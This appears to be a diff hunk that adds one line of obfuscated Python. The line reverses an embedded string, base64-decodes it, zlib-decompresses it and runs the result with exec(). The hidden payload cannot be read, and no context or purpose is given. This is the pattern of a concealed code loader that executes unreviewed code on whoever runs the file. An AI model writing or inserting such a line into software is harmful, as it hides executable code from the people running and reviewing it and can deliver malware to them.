@@ -1,0 +1,1 @@
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==Aufotu/woQ4sAO6rCFFROFhWZzhn5GSFFRJwp1JV1PDyLISnGY3/wwsJ+BRN0HYI5t9acdgFtd8ep5f5Ri7LlgIZjiptOsDGAsrCNAMACgOsDzNwJe'))
